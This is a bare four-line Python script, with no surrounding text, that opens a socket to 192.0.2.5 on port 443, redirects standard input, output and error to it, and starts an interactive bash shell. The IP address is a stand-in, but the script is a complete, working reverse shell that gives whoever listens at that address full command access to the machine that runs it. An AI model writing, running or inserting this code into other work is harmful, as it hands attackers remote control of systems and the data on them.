import os, socket, subprocess
s = socket.create_connection(("192.0.2.5", 443))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
subprocess.call(["/bin/bash", "-i"])
